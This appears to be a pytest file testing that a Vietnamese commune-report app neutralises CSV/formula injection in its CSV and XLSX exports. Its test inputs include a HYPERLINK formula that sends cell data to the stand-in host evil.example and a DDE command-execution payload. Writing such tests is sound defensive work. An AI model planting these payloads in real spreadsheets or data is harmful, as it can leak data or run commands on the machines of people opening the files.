"""Exports neutralise formulas (OWASP "CSV Injection"): text a spreadsheet would run as a
formula gets a leading apostrophe in the CSV and in every sheet of the XLSX; numbers stay
numbers."""

import csv
import io

import pytest
from openpyxl import load_workbook

from .scenario import EXPECTED_TOTAL

ATTACK = '=HYPERLINK("http://evil.example/?d="&B12,"Xem chi tiết")'

pytestmark = pytest.mark.usefixtures("after_october")


@pytest.fixture
def signed_in(client, leader):
    client.force_login(leader)
    return client


@pytest.mark.parametrize(
    "name", [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
)
def test_a_field_name_that_starts_a_formula_is_text_in_the_csv(
    signed_in, commune, civil_status, october, name
):
    civil_status.name = name
    civil_status.save()
    response = signed_in.get(f"/bao-cao/{commune.pk}/2026-10/bieu-06.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    fields = [row[1] for row in rows[1:]]
    assert "'" + name in fields
    assert name not in fields
    assert [int(v) for v in rows[-1][2:13]] == EXPECTED_TOTAL  # numbers stay plain numbers


def test_a_field_name_that_starts_a_formula_is_text_in_the_xlsx(
    signed_in, commune, civil_status, october
):
    civil_status.name = ATTACK
    civil_status.save()
    response = signed_in.get(f"/bao-cao/{commune.pk}/2026-10/bieu-06.xlsx")
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    sheet = book["Biểu 06"]
    names = [row[1].value for row in sheet.iter_rows()]
    assert "'" + ATTACK in names
    totals = next(row for row in sheet.iter_rows() if row[1].value == "Tổng cộng")
    assert [cell.value for cell in totals[2:13]] == EXPECTED_TOTAL
    assert {cell.data_type for cell in totals[2:13]} == {"n"}


def test_a_rate_of_nothing_keeps_its_dash(signed_in, commune):
    response = signed_in.get(f"/bao-cao/{commune.pk}/2026-10/bieu-06.xlsx")
    rates = load_workbook(io.BytesIO(response.content))["Chỉ số"]
    assert "-" in [row[1].value for row in rates.iter_rows(min_row=2)]
